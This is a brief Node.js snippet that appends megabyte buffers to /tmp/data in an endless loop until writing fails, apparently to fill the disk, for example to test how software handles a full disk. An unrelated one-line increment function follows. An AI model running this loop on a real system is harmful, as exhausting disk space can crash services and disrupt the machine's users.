// As much data as there is room for.
const fs = require('fs');
const data = Buffer.alloc(1 << 20, 1);
try {
  for (;;) fs.appendFileSync('/tmp/data', data);
} catch {}

function f(x) {
  return x + 1;
}
